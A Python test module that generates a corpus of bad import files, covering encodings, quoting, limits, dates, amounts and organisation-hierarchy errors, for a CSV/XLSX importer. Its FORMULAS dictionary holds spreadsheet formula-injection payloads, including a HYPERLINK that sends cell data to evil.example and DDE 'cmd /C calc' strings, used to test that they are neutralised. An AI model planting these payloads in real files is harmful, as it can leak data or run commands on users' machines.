"""The bad-input corpus: a few hundred import files, generated deterministically, each with
what the importer must make of it.

A case is either *accepted*, with the rows it must leave stored (so an encoding or a
delimiter is proved to mean the same as plain UTF-8 with commas), or *rejected*, with
every (row, column) that must be named and a fragment of the first reason; a rejected
file must change nothing. ``row`` None is a problem with the file as a whole (empty,
missing columns, not text). Files are built from Python values here rather than kept as
binaries in the repository; ``python -m tests.imports.corpus.cases DIR`` writes them out
for a look in a spreadsheet.

The small organisation of tests/conftest.py is in place for every case: units ACME,
NORTH, NORTH-A, SOUTH, SOUTH-A and people E001…E006 (Ria Rep, E004, is a member of
NORTH-A from 2025-01-01).
"""

from __future__ import annotations

import codecs
import datetime as dt
import io
import sys
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook

Row = Sequence[str]


@dataclass(frozen=True)
class Expected:
    """An error the importer must report: its row and column, and words of its reason."""

    row: int | None
    column: str
    fragment: str = ""


@dataclass(frozen=True)
class Case:
    """One corpus file and its expected outcome."""

    kind: str
    name: str
    content: bytes
    suffix: str = ".csv"
    errors: tuple[Expected, ...] = ()
    stored: frozenset[tuple[object, ...]] | None = None
    before: tuple[tuple[str, bytes], ...] = ()
    limits: tuple[tuple[str, int], ...] = ()
    warnings: int = 0
    rejected_contains: tuple[str, ...] = ()

    @property
    def accepted(self) -> bool:
        return not self.errors

    @property
    def id(self) -> str:
        return f"{self.kind}-{self.name}"


# --- the three kinds' base files and what they mean ---------------------------------

T_HEADER = ("external_id", "date", "amount", "currency", "credited_to", "product")
T_ROWS: tuple[Row, ...] = (
    ("T-1", "2026-03-14", "1250.00", "EUR", "E004", "Crème brûlée"),
    ("T-2", "2026-03-15", "980.50", "EUR", "E004:60;E005:40", "Smørrebrød"),
    ("T-3", "2026-03-16", "-200.00", "EUR", "E005", "Gâteau"),
    ("T-4", "2026-03-17", "1500", "JPY", "E006", "Niño"),
    ("T-5", "2026-03-18", "0.99", "EUR", "E006", "Façade"),
)
T_STORED = frozenset(
    {
        ("T-1", "2026-03-14", 125000, "EUR", "Crème brûlée"),
        ("T-2", "2026-03-15", 98050, "EUR", "Smørrebrød"),
        ("T-3", "2026-03-16", -20000, "EUR", "Gâteau"),
        ("T-4", "2026-03-17", 1500, "JPY", "Niño"),
        ("T-5", "2026-03-18", 99, "EUR", "Façade"),
    }
)

A_HEADER = ("external_id", "date", "person_id", "activity_type", "quantity", "account")
A_ROWS: tuple[Row, ...] = (
    ("A-1", "2026-03-14", "E004", "call", "1", "Café Müller"),
    ("A-2", "2026-03-15", "E005", "meeting", "2", "Señor Frío"),
    ("A-3", "2026-03-16", "E006", "demo", "3", "Åsa Öberg"),
    ("A-4", "2026-03-17", "E004", "call", "", "Zoë"),
    ("A-5", "2026-03-18", "E005", "email", "5", "Garçon"),
)
A_STORED = frozenset(
    {
        ("A-1", "2026-03-14", "E004", "call", 1, "Café Müller"),
        ("A-2", "2026-03-15", "E005", "meeting", 2, "Señor Frío"),
        ("A-3", "2026-03-16", "E006", "demo", 3, "Åsa Öberg"),
        ("A-4", "2026-03-17", "E004", "call", 1, "Zoë"),
        ("A-5", "2026-03-18", "E005", "email", 5, "Garçon"),
    }
)

O_HEADER = (
    "unit_code", "unit_name", "unit_kind", "parent_unit_code", "territory", "person_id",
    "person_name", "email", "title", "role", "valid_from", "valid_to",
)  # fmt: skip
O_ROWS: tuple[Row, ...] = (
    ("WEST", "Région Ouest", "region", "ACME", "France", "E101", "Amélie Poulain",
     "amelie@acme.example", "Directrice", "manager", "2026-01-01", ""),
    ("WEST-A", "Équipe A", "team", "WEST", "", "E102", "José Núñez", "jose@acme.example",
     "Commercial", "member", "2026-01-01", ""),
    ("WEST-A", "", "", "", "", "E103", "Jürgen Groß", "", "", "member", "2026-01-01", "2026-06-30"),
    ("WEST-B", "Équipe B", "team", "WEST", "Bretagne", "", "", "", "", "", "", ""),
    ("WEST-B", "", "", "", "", "E103", "", "", "", "member", "2026-07-01", ""),
)  # fmt: skip
O_STORED = frozenset(
    {
        ("unit", "WEST", "Région Ouest", "ACME"),
        ("unit", "WEST-A", "Équipe A", "WEST"),
        ("unit", "WEST-B", "Équipe B", "WEST"),
        ("person", "E101", "Amélie Poulain", "amelie@acme.example"),
        ("person", "E102", "José Núñez", "jose@acme.example"),
        ("person", "E103", "Jürgen Groß", ""),
        ("placement", "E101", "WEST", "manager", "2026-01-01", None),
        ("placement", "E102", "WEST-A", "member", "2026-01-01", None),
        ("placement", "E103", "WEST-A", "member", "2026-01-01", "2026-06-30"),
        ("placement", "E103", "WEST-B", "member", "2026-07-01", None),
    }
)

BASE = {
    "transactions": (T_HEADER, T_ROWS, T_STORED),
    "activities": (A_HEADER, A_ROWS, A_STORED),
    "org": (O_HEADER, O_ROWS, O_STORED),
}
# The column each kind's free-text probes go into, and its date column.
TEXT_COLUMN = {"transactions": "product", "activities": "account", "org": "unit_name"}
DATE_COLUMN = {"transactions": "date", "activities": "date", "org": "valid_from"}
ID_COLUMN = {"transactions": "external_id", "activities": "external_id", "org": "unit_code"}


def csv_text(header: Row, rows: Sequence[Row], *, delimiter: str = ",", newline: str = "\n") -> str:
    """Rows as CSV, quoting only cells that need it (delimiter, quote or line break)."""

    def cell(value: str) -> str:
        if any(mark in value for mark in (delimiter, '"', "\n", "\r")):
            return '"' + value.replace('"', '""') + '"'
        return value

    return "".join(
        delimiter.join(cell(value) for value in row) + newline for row in [header, *rows]
    )


def encoded(text: str, encoding: str = "utf-8") -> bytes:
    return text.encode(encoding)


def base_bytes(kind: str) -> bytes:
    header, rows, _ = BASE[kind]
    return encoded(csv_text(header, rows))


def xlsx_bytes(header: Row, rows: Sequence[Sequence[object]]) -> bytes:
    """A one-sheet workbook with fixed document dates, so the bytes do not vary by day."""
    workbook = Workbook()
    workbook.properties.created = workbook.properties.modified = dt.datetime(2026, 1, 1)  # noqa: DTZ001
    sheet = workbook.active
    assert sheet is not None  # noqa: S101 - a new workbook always has one sheet
    sheet.append(list(header))
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- building variants of the base files ---------------------------------------------

FIELDS = {
    "transactions": ("external_id", "date", "amount_minor", "currency", "product"),
    "activities": ("external_id", "date", "person_id", "activity_type", "quantity", "account"),
}


def rows_with(kind: str, changes: dict[tuple[int, str], str]) -> list[list[str]]:
    """The base rows with cells changed: ``{(row_index, column): value}``; row_index 0 is
    spreadsheet row 2."""
    header, rows, _ = BASE[kind]
    changed = [list(row) for row in rows]
    for (index, column), value in changes.items():
        changed[index][header.index(column)] = value
    return changed


def file_with(kind: str, changes: dict[tuple[int, str], str], **options: str) -> bytes:
    header, _, _ = BASE[kind]
    return encoded(csv_text(header, rows_with(kind, changes), **options))


def stored_with(kind: str, index: int, **fields: object) -> frozenset[tuple[object, ...]]:
    """The base meaning with the row ``index`` stored differently.

    Transactions and activities name fields of :data:`FIELDS`; the organisation takes
    ``unit_name`` (of the unit the row defines) or ``valid_from`` (of its placement)."""
    _, rows, stored = BASE[kind]
    key = rows[index][0]
    if kind == "org":
        person = rows[index][5]
        result = set()
        for entry in stored:
            if entry[:2] == ("unit", key) and "unit_name" in fields:
                entry = ("unit", key, fields["unit_name"], entry[3])
            if entry[0] == "placement" and entry[1:3] == (person, key) and "valid_from" in fields:
                entry = (*entry[:4], fields["valid_from"], entry[5])
            result.add(entry)
        return frozenset(result)
    names = FIELDS[kind]
    return frozenset(
        tuple(fields.get(name, value) for name, value in zip(names, entry, strict=True))
        if entry[0] == key
        else entry
        for entry in stored
    )


def rejected(kind: str, name: str, content: bytes, *errors: Expected, **options: object) -> Case:
    return Case(kind, name, content, errors=errors, **options)


def broken_first_row(kind: str, *errors: Expected) -> tuple[Expected, ...]:
    """``errors`` on spreadsheet row 2, plus, in the organisation file, what follows from
    refusing that row: it defines WEST, the parent of the units defined on rows 3 and 5."""
    if kind != "org":
        return errors
    return (*errors, Expected(3, "parent_unit_code"), Expected(5, "parent_unit_code"))


def accepted(
    kind: str, name: str, content: bytes, stored: frozenset[tuple[object, ...]], **options: object
) -> Case:
    return Case(kind, name, content, stored=stored, **options)


# --- the families of cases -----------------------------------------------------------

KINDS = ("transactions", "activities", "org")
ENCODINGS = {
    "utf8": lambda text: text.encode("utf-8"),
    "utf8-bom": lambda text: text.encode("utf-8-sig"),
    "utf16-le-bom": lambda text: codecs.BOM_UTF16_LE + text.encode("utf-16-le"),
    "utf16-be-bom": lambda text: codecs.BOM_UTF16_BE + text.encode("utf-16-be"),
    "utf16-le-no-bom": lambda text: text.encode("utf-16-le"),
    "utf32-le-bom": lambda text: codecs.BOM_UTF32_LE + text.encode("utf-32-le"),
    "utf32-be-bom": lambda text: codecs.BOM_UTF32_BE + text.encode("utf-32-be"),
    "cp1252": lambda text: text.encode("cp1252"),
    "latin1": lambda text: text.encode("latin-1"),
}


def encoding_cases() -> Iterator[Case]:
    """Every common encoding means the same rows as UTF-8; bytes that are no text are
    named by row and column."""
    for kind in KINDS:
        header, rows, stored = BASE[kind]
        text = csv_text(header, rows)
        column = TEXT_COLUMN[kind]
        for name, encode in ENCODINGS.items():
            yield accepted(kind, f"encoding-{name}", encode(text), stored)
        # UTF-8 with two bytes that are no UTF-8 in one cell of row 3.
        good = csv_text(header, rows_with(kind, {(1, column): "BAD"})).encode("utf-8")
        dependants = (Expected(4, "unit_code", "fix that row first"),) if kind == "org" else ()
        yield rejected(
            kind, "encoding-utf8-invalid-bytes", good.replace(b"BAD", b"B\xff\xfeD"),
            Expected(3, column, "not valid text in the file's encoding"), *dependants,
        )  # fmt: skip
        yield rejected(
            kind, "encoding-utf8-invalid-bytes-after-sample", _long_then_broken(kind),
            Expected(_LONG_ROWS + 2, column, "not valid text in the file's encoding"),
        )  # fmt: skip
        yield rejected(
            kind, "encoding-binary-noise", bytes(range(256)) * 40,
            Expected(None, "", "could not be read as text"),
        )  # fmt: skip
    value = "Prix € “spécial” – été"
    yield accepted(
        "transactions", "encoding-cp1252-euro-and-curly-quotes",
        file_with("transactions", {(0, "product"): value}).decode().encode("cp1252"),
        stored_with("transactions", 0, product=value),
    )  # fmt: skip


_LONG_ROWS = 3_000


def _long_then_broken(kind: str) -> bytes:
    """Valid UTF-8 beyond the 256 KiB the encoding is recognised from, then a row whose
    text cell holds bytes that are no UTF-8: found while reading, on its row and column."""
    header, rows, _ = BASE[kind]
    column = header.index(TEXT_COLUMN[kind])
    many = []
    for number in range(_LONG_ROWS + 1):
        if kind == "org":
            # The unit_name filled in below defines NORTH-A, so its parent is named too.
            row = ["NORTH-A", "", "", "NORTH", "", f"P{number:05d}", f"Pérson {number}", "", "",
                   "manager", "2026-01-01", ""]  # fmt: skip
        else:
            row = list(rows[number % len(rows)])
            row[0] = f"{row[0]}-{number}"
        row[column] = ("é" * 100) if number < _LONG_ROWS else "BAD"
        if kind == "org" and number == _LONG_ROWS:
            row[1:4] = ["BAD", "team", "NORTH-A"]
            row[0] = "NEW"
        many.append(row)
    return csv_text(header, many).encode("utf-8").replace(b"BAD", b"B\xff\xfeD")


def delimiter_cases() -> Iterator[Case]:
    """Semicolons, tabs and pipes are recognised from the header; any line ending works."""
    for kind in KINDS:
        header, rows, stored = BASE[kind]
        for name, delimiter in (("semicolon", ";"), ("tab", "\t"), ("pipe", "|")):
            content = encoded(csv_text(header, rows, delimiter=delimiter))
            yield accepted(kind, f"delimiter-{name}", content, stored)
        for name, newline in (("crlf", "\r\n"), ("cr", "\r")):
            content = encoded(csv_text(header, rows, newline=newline))
            yield accepted(kind, f"newline-{name}", content, stored)
        # A header with commas over rows with semicolons: each row is one long first cell.
        mixed = csv_text(header, []) + csv_text(header, rows, delimiter=";").split("\n", 1)[1]
        first = ID_COLUMN[kind]
        yield rejected(
            kind, "delimiter-mixed", encoded(mixed),
            *(Expected(row, DATE_COLUMN[kind] if kind != "org" else first) for row in range(2, 7)),
        )  # fmt: skip


def quoting_cases() -> Iterator[Case]:
    """Quoted delimiters and doubled quotes are data; a quote left open is an error on the
    row where it opens, never a row silently joined to the next."""
    for kind in KINDS:
        header, rows, _ = BASE[kind]
        column = TEXT_COLUMN[kind]
        position = header.index(column)
        for name, value in (
            ("quoted-delimiter", "Widget, Pro; v2"),
            ("doubled-quotes", 'The "Pro" edition'),
            ("quote-inside-unquoted-cell", 'Crè"me'),
        ):
            content = file_with(kind, {(0, column): value})
            if name == "quote-inside-unquoted-cell":
                content = content.replace(b'"Cr\xc3\xa8""me"', 'Crè"me'.encode())
            yield accepted(kind, name, content, stored_with(kind, 0, **_text(kind, value)))
        yield rejected(
            kind, "quoted-line-break", file_with(kind, {(0, column): "Line one\nLine two"}),
            *broken_first_row(kind, Expected(2, column, "line break")),
        )  # fmt: skip
        lines = csv_text(header, rows).split("\n")
        open_to_end = list(lines)
        cells = open_to_end[2].split(",")
        cells[position] = '"' + cells[position]
        open_to_end[2] = ",".join(cells)
        yield rejected(
            kind, "unbalanced-quote-to-the-end", encoded("\n".join(open_to_end)),
            Expected(3, "", "never closed"),
        )  # fmt: skip
        swallowing = list(lines)
        for line, mark in ((1, "open"), (3, "close")):
            cells = swallowing[line].split(",")
            cells[position] = '"' + cells[position] if mark == "open" else cells[position] + '"'
            swallowing[line] = ",".join(cells)
        expected = [Expected(2, column, "line break")]
        if kind == "org":
            # Lines 3 and 4 of the file were swallowed into row 2, which defines WEST: the
            # next row (row 3, as a spreadsheet shows it) defines WEST-B under WEST, and
            # E103's first placement, the one with their name, was lost.
            expected += [Expected(3, "parent_unit_code"), Expected(4, "person_name", "new person")]
        yield rejected(
            kind, "unbalanced-quote-swallowing-rows", encoded("\n".join(swallowing)), *expected
        )
        after = list(lines)
        cells = after[1].split(",")
        cells[position] = '"' + cells[position] + '" and more'
        after[1] = ",".join(cells)
        yield rejected(
            kind, "text-after-closing-quote", encoded("\n".join(after)),
            Expected(2, "", "well-formed CSV"),
        )  # fmt: skip


def _text(kind: str, value: str) -> dict[str, object]:
    return {{"transactions": "product", "activities": "account", "org": "unit_name"}[kind]: value}


FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?q="&A1,"Open")',
    "plus-cmd": "+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus-cmd": "-2+3+cmd|' /C calc'!A0",
    "equals-arithmetic": "=1+1",
    "fullwidth-equals": "\uff1dSUM(A1:A9)",
}


def formula_cases() -> Iterator[Case]:
    """Formula-like text is stored as typed, and written back (in the rejected-rows file)
    with an apostrophe in front so no spreadsheet evaluates it."""
    for kind in KINDS:
        column = TEXT_COLUMN[kind]
        for name, payload in FORMULAS.items():
            yield accepted(
                kind, f"formula-{name}-stored-as-text", file_with(kind, {(0, column): payload}),
                stored_with(kind, 0, **_text(kind, payload)),
            )  # fmt: skip
            content = file_with(kind, {(0, column): payload, (0, DATE_COLUMN[kind]): "14/03/2026"})
            yield rejected(
                kind, f"formula-{name}-neutralised-in-rejected-rows", content,
                Expected(2, DATE_COLUMN[kind], "YYYY-MM-DD"), rejected_contains=("'" + payload,),
            )  # fmt: skip
        yield accepted(
            kind, "formula-apostrophe-from-an-export-is-removed",
            file_with(kind, {(0, column): "'=1+1"}), stored_with(kind, 0, **_text(kind, "=1+1")),
        )  # fmt: skip


def huge_cases() -> Iterator[Case]:
    """Limits on cells, columns, rows and files, each refused with the limit named."""
    long_column = {
        "transactions": ("external_id", 101, "longer than 100"),
        "activities": ("activity_type", 61, "longer than 60"),
        "org": ("unit_code", 65, "longer than 64"),
    }
    for kind in KINDS:
        header, rows, stored = BASE[kind]
        column = TEXT_COLUMN[kind]
        yield rejected(
            kind, "cell-over-10000-characters", file_with(kind, {(0, column): "x" * 10_001}),
            *broken_first_row(kind, Expected(2, column, "a cell holds at most 10,000")),
        )  # fmt: skip
        yield rejected(
            kind, "cell-over-the-csv-reader-limit", file_with(kind, {(1, column): "x" * 200_000}),
            Expected(3, "", "more than 131,072 characters"),
        )  # fmt: skip
        yield rejected(
            kind, "cell-of-10-mb", file_with(kind, {(1, column): "x" * (10 * 1024 * 1024)}),
            Expected(3, "", "more than 131,072 characters"),
        )  # fmt: skip
        name, length, fragment = long_column[kind]
        yield rejected(
            kind, f"{name}-too-long", file_with(kind, {(0, name): "X" * length}),
            *broken_first_row(kind, Expected(2, name, fragment)),
        )  # fmt: skip
        yield rejected(
            kind, "file-over-the-size-limit", base_bytes(kind),
            Expected(None, "", "an import takes at most 200 bytes"), limits=(("MAX_FILE_BYTES", 200),),
        )  # fmt: skip
        yield rejected(
            kind, "rows-over-the-row-limit", base_bytes(kind),
            Expected(5, "", "more than 3 data rows"), limits=(("MAX_DATA_ROWS", 3),),
        )  # fmt: skip
        yield accepted(
            kind, "rows-at-the-row-limit", base_bytes(kind), stored,
            limits=(("MAX_DATA_ROWS", len(rows)),),
        )  # fmt: skip
    yield _many_transactions()
    yield _many_activities()
    yield _many_placements()
    yield rejected(
        "org", "email-of-300-characters",
        file_with("org", {(0, "email"): "a" * 288 + "@example.com"}),
        *broken_first_row("org", Expected(2, "email", "longer than 254")),
    )  # fmt: skip


MANY = 4_000


def _many_transactions() -> Case:
    rows = [
        (f"M-{n}", "2026-03-14", f"{n}.{n % 100:02d}", "EUR", f"E00{4 + n % 3}", f"Produit {n % 7} é")
        for n in range(MANY)
    ]  # fmt: skip
    stored = frozenset(
        (f"M-{n}", "2026-03-14", n * 100 + n % 100, "EUR", f"Produit {n % 7} é")
        for n in range(MANY)
    )
    return accepted("transactions", f"{MANY}-rows", encoded(csv_text(T_HEADER, rows)), stored)


def _many_activities() -> Case:
    rows = [
        (f"M-{n}", "2026-03-14", f"E00{4 + n % 3}", "call", str(1 + n % 5), f"Compte {n % 11}")
        for n in range(MANY)
    ]
    stored = frozenset(
        (f"M-{n}", "2026-03-14", f"E00{4 + n % 3}", "call", 1 + n % 5, f"Compte {n % 11}")
        for n in range(MANY)
    )
    return accepted("activities", f"{MANY}-rows", encoded(csv_text(A_HEADER, rows)), stored)


def _many_placements() -> Case:
    count = MANY // 4
    rows = [("BIG", "Grande équipe", "team", "SOUTH", "", "", "", "", "", "", "", "")]
    rows += [
        ("BIG", "", "", "", "", f"B{n:04d}", f"Person {n}", "", "", "member", "2026-01-01", "")
        for n in range(count)
    ]
    stored = {("unit", "BIG", "Grande équipe", "SOUTH")}
    for n in range(count):
        stored.add(("person", f"B{n:04d}", f"Person {n}", ""))
        stored.add(("placement", f"B{n:04d}", "BIG", "member", "2026-01-01", None))
    return accepted(
        "org", f"{count}-placements", encoded(csv_text(O_HEADER, rows)), frozenset(stored)
    )


BAD_DATES = {
    "day-first-slashes": "03/04/2026",
    "year-first-slashes": "2026/03/04",
    "dotted": "14.03.2026",
    "compact": "20260314",
    "words": "March 3, 2026",
    "february-30": "2026-02-30",
    "month-13": "2026-13-01",
    "one-digit-month": "2026-3-04",
    "excel-serial": "46095",
    "year-1899": "1899-12-31",
    "year-2201": "2201-01-01",
    "year-1": "0001-01-01",
    "year-9999": "9999-12-31",
    "with-time": "2026-03-14T10:00:00",
}


def date_cases() -> Iterator[Case]:
    """Dates are YYYY-MM-DD between 1900 and 2200; anything ambiguous is refused."""
    for kind in KINDS:
        column = DATE_COLUMN[kind]
        for name, value in BAD_DATES.items():
            yield rejected(
                kind, f"date-{name}", file_with(kind, {(0, column): value}), Expected(2, column)
            )
        yield rejected(
            kind, "date-empty", file_with(kind, {(0, column): ""}),
            Expected(2, column, "the date is empty"),
        )  # fmt: skip
        for name, value in (("first-allowed", "1900-01-01"), ("last-allowed", "2200-12-31")):
            field_name = "valid_from" if kind == "org" else "date"
            yield accepted(
                kind, f"date-{name}", file_with(kind, {(0, column): value}),
                stored_with(kind, 0, **{field_name: value}),
            )  # fmt: skip


GOOD_AMOUNTS = {
    "explicit-plus": ("+5.00", "EUR", 500),
    "no-leading-digit": (".5", "EUR", 50),
    "no-decimals-after-point": ("5.", "EUR", 500),
    "negative-zero": ("-0.00", "EUR", 0),
    "largest": ("10000000000.00", "EUR", 10**12),
    "largest-negative": ("-10000000000.00", "EUR", -(10**12)),
    "three-decimal-currency": ("1.234", "KWD", 1234),
    "zero-decimal-currency": ("100", "JPY", 100),
    "trailing-zeros": ("1250.500", "EUR", 125050),
    "credit-note": ("-1250.00", "EUR", -125000),
}
BAD_AMOUNTS = {
    "fraction-of-a-cent": ("10.005", "EUR", "more than 2 decimals, the most EUR has"),
    "fraction-of-a-yen": ("100.5", "JPY", "must be a whole number (JPY has no decimals)"),
    "thousands-separator": ("1,250.00", "EUR", "not a number"),
    "decimal-comma": ("12,50", "EUR", "not a number"),
    "european-grouping": ("1.250,00", "EUR", "not a number"),
    "scientific-1e30": ("1e30", "EUR", "not a number"),
    "scientific-upper": ("1E+5", "EUR", "not a number"),
    "not-a-number": ("NaN", "EUR", "not a number"),
    "infinity": ("Infinity", "EUR", "not a number"),
    "currency-sign": ("€5", "EUR", "not a number"),
    "currency-word": ("5 EUR", "EUR", "not a number"),
    "double-minus": ("--5", "EUR", "not a number"),
    "hexadecimal": ("0x10", "EUR", "not a number"),
    "arabic-indic-digits": ("١٢٣", "EUR", "not a number"),
    "fullwidth-digits": ("１２３", "EUR", "not a number"),
    "empty": ("", "EUR", "the amount is empty"),
    "just-over-the-largest": ("10000000000.01", "EUR", "too large"),
    "int64-maximum-in-cents": ("92233720368547758.07", "EUR", "too large"),
    "int64-maximum-in-yen": ("9223372036854775807", "JPY", "too large"),
    "beyond-int64": ("99999999999999999999999999999999.99", "EUR", "too large"),
    "parenthesised-negative": ("(5.00)", "EUR", "not a number"),
}


def amount_cases() -> Iterator[Case]:
    """Amounts are exact minor units; anything a locale could read two ways is refused."""
    for name, (text, currency, minor) in GOOD_AMOUNTS.items():
        yield accepted(
            "transactions", f"amount-{name}",
            file_with("transactions", {(0, "amount"): text, (0, "currency"): currency}),
            stored_with("transactions", 0, amount_minor=minor, currency=currency),
        )  # fmt: skip
    for name, (text, currency, fragment) in BAD_AMOUNTS.items():
        yield rejected(
            "transactions", f"amount-{name}",
            file_with("transactions", {(0, "amount"): text, (0, "currency"): currency}),
            Expected(2, "amount", fragment),
        )  # fmt: skip
    for name, text in (("lower-case", "eur"), ("padded", " usd ")):
        yield accepted(
            "transactions", f"currency-{name}", file_with("transactions", {(0, "currency"): text}),
            stored_with("transactions", 0, currency=text.strip().upper()),
        )  # fmt: skip
    for name, text in (
        ("word", "EURO"), ("no-currency-code", "XXX"), ("crypto", "BTC"), ("sign", "€"),
        ("empty", ""), ("dollar-sign", "US$"), ("gold", "XAU"), ("retired", "DEM"),
    ):  # fmt: skip
        yield rejected(
            "transactions", f"currency-{name}", file_with("transactions", {(0, "currency"): text}),
            Expected(2, "currency"),
        )  # fmt: skip


def credit_and_quantity_cases() -> Iterator[Case]:
    for name, split in (
        ("shares-add-to-90", "E004:60;E005:30"),
        ("person-twice", "E004:60;E004:40"),
        ("unknown-person", "E999"),
        ("share-not-a-number", "E004:abc"),
        ("share-without-person", ":100"),
        ("zero-share", "E004:0;E005:100"),
        ("empty", ""),
    ):
        yield rejected(
            "transactions", f"credit-{name}", file_with("transactions", {(0, "credited_to"): split}),
            Expected(2, "credited_to"),
        )  # fmt: skip
    yield accepted(
        "transactions", "credit-percent-signs",
        file_with("transactions", {(0, "credited_to"): "E004:50%;E005:50%"}), T_STORED,
    )  # fmt: skip
    for name, quantity in (
        ("zero", "0"), ("negative", "-1"), ("fraction", "1.5"), ("word", "two"),
        ("beyond-int32", "2147483648"), ("scientific", "1e3"),
    ):  # fmt: skip
        yield rejected(
            "activities", f"quantity-{name}", file_with("activities", {(0, "quantity"): quantity}),
            Expected(2, "quantity"),
        )  # fmt: skip
    yield accepted(
        "activities", "quantity-large-whole", file_with("activities", {(0, "quantity"): "2147483646"}),
        stored_with("activities", 0, quantity=2147483646),
    )  # fmt: skip
    header = (*T_HEADER, "quantity")
    for name, quantity in (
        ("five-decimals", "1.23456"),
        ("huge", "10000000000"),
        ("scientific", "1e3"),
    ):
        rows = [(*row, "1") for row in T_ROWS]
        rows[0] = (*T_ROWS[0], quantity)
        yield rejected(
            "transactions",
            f"quantity-{name}",
            encoded(csv_text(header, rows)),
            Expected(2, "quantity"),
        )


def duplicate_cases() -> Iterator[Case]:
    """Duplicates within a file are refused; across files an id updates its earlier row."""
    for kind in ("transactions", "activities"):
        header, rows, stored = BASE[kind]
        twice = [*rows, rows[0]]
        yield rejected(
            kind, "duplicate-id-in-file", encoded(csv_text(header, twice)),
            Expected(len(rows) + 2, "external_id", "also on row 2"),
        )  # fmt: skip
        with_source = (*header, "source")
        sourced = [(*row, "crm") for row in rows] + [(*rows[0], "erp")]
        yield accepted(
            kind, "same-id-from-two-sources", encoded(csv_text(with_source, sourced)), stored,
            warnings=0,
        )  # fmt: skip
        yield accepted(
            kind, "same-file-twice", base_bytes(kind), stored, before=((kind, base_bytes(kind)),)
        )
    changed_amount = file_with("transactions", {(0, "amount"): "1300.00"})
    yield accepted(
        "transactions", "changed-row-in-a-second-file", changed_amount,
        stored_with("transactions", 0, amount_minor=130000),
        before=(("transactions", base_bytes("transactions")),),
    )  # fmt: skip
    changed_quantity = file_with("activities", {(0, "quantity"): "4"})
    yield accepted(
        "activities", "changed-row-in-a-second-file", changed_quantity,
        stored_with("activities", 0, quantity=4),
        before=(("activities", base_bytes("activities")),),
    )  # fmt: skip
    yield accepted(
        "org", "same-file-twice", base_bytes("org"), O_STORED, before=(("org", base_bytes("org")),)
    )


def _org(rows: Sequence[Row]) -> bytes:
    return encoded(csv_text(O_HEADER, [*O_ROWS, *rows]))


def _org_row(**cells: str) -> tuple[str, ...]:
    return tuple(cells.get(name, "") for name in O_HEADER)


def org_cases() -> Iterator[Case]:
    """Cycles, overlaps and references in the organisation, each named on its row."""
    first = len(O_ROWS) + 2  # spreadsheet row of the first added row
    yield accepted(
        "org", "unit-defined-twice-identically",
        _org([_org_row(unit_code="WEST", unit_name="Région Ouest", unit_kind="region",
                       parent_unit_code="ACME", territory="France")]),
        O_STORED,
    )  # fmt: skip
    cases: dict[str, tuple[list[tuple[str, ...]], tuple[Expected, ...]]] = {
        "unit-defined-twice-differently": (
            [_org_row(unit_code="WEST", unit_name="West", unit_kind="region", parent_unit_code="ACME")],
            (Expected(first, "unit_name", "already defined differently"),),
        ),
        "two-unit-cycle": (
            [_org_row(unit_code="C-1", unit_name="C1", parent_unit_code="C-2"),
             _org_row(unit_code="C-2", unit_name="C2", parent_unit_code="C-1")],
            (Expected(first, "parent_unit_code", "form a cycle"),),
        ),
        "three-unit-cycle": (
            [_org_row(unit_code="C-1", unit_name="C1", parent_unit_code="C-3"),
             _org_row(unit_code="C-2", unit_name="C2", parent_unit_code="C-1"),
             _org_row(unit_code="C-3", unit_name="C3", parent_unit_code="C-2")],
            (Expected(first, "parent_unit_code", "form a cycle"),),
        ),
        "own-parent": (
            [_org_row(unit_code="C-1", unit_name="C1", parent_unit_code="C-1")],
            (Expected(first, "parent_unit_code", "its own parent"),),
        ),
        "cycle-through-stored-units": (
            [_org_row(unit_code="ACME", unit_name="Acme", unit_kind="company", parent_unit_code="NORTH-A")],
            (Expected(first, "parent_unit_code", "form a cycle"),),
        ),
        "overlapping-placements-in-file": (
            [_org_row(unit_code="WEST-B", person_id="E103", role="member", valid_from="2026-06-01")],
            (Expected(first, "valid_from", "two units at once"),),
        ),
        "overlap-with-stored-placement": (
            [_org_row(unit_code="WEST-A", person_id="E004", role="member", valid_from="2026-01-01")],
            (Expected(first, "valid_from", "two units at once"),),
        ),
        "same-placement-twice": (
            [_org_row(unit_code="WEST-A", person_id="E102", role="member", valid_from="2026-01-01")],
            (Expected(first, "person_id", "list each placement once"),),
        ),
        "person-with-two-names": (
            [_org_row(unit_code="WEST", person_id="E102", person_name="Jose Nunez", role="manager",
                      valid_from="2026-01-01")],
            (Expected(first, "person_name", "give each person one"),),
        ),
        "ends-before-it-starts": (
            [_org_row(unit_code="WEST", person_id="E105", role="manager", valid_from="2026-05-01",
                      valid_to="2026-04-30")],
            (Expected(first, "valid_to", "before it starts"),),
        ),
        "unknown-parent": (
            [_org_row(unit_code="X-1", unit_name="X", parent_unit_code="NOWHERE")],
            (Expected(first, "parent_unit_code", "neither in this file nor in Quotaflow"),),
        ),
        "unknown-unit": (
            [_org_row(unit_code="NOWHERE", person_id="E105", role="manager", valid_from="2026-01-01")],
            (Expected(first, "unit_code", "no row defines it"),),
        ),
        "bad-role": (
            [_org_row(unit_code="WEST", person_id="E105", role="boss", valid_from="2026-01-01")],
            (Expected(first, "role", "not a role"),),
        ),
        "bad-unit-kind": (
            [_org_row(unit_code="X-1", unit_name="X", unit_kind="galaxy", parent_unit_code="ACME")],
            (Expected(first, "unit_kind", "not a unit kind"),),
        ),
        "bad-email": (
            [_org_row(unit_code="WEST", person_id="E105", person_name="Eve", email="eve at acme",
                      role="manager", valid_from="2026-01-01")],
            (Expected(first, "email", "not an e-mail address"),),
        ),
        "new-person-without-name": (
            [_org_row(unit_code="WEST", person_id="E199", role="manager", valid_from="2026-01-01")],
            (Expected(first, "person_name", "new person"),),
        ),
        "row-neither-defines-nor-places": (
            [_org_row(unit_code="WEST")],
            (Expected(first, "unit_name", "neither defines"),),
        ),
        "parent-defined-on-a-bad-row": (
            [_org_row(unit_code="P-1", unit_name="P", unit_kind="galaxy", parent_unit_code="ACME"),
             _org_row(unit_code="P-2", unit_name="Q", parent_unit_code="P-1")],
            (Expected(first, "unit_kind"), Expected(first + 1, "parent_unit_code", "fix that row first")),
        ),
    }  # fmt: skip
    for name, (rows, expected) in cases.items():
        yield rejected("org", name, _org(rows), *expected)


def structure_cases() -> Iterator[Case]:
    """Empty files, header problems and rows that do not fit the header."""
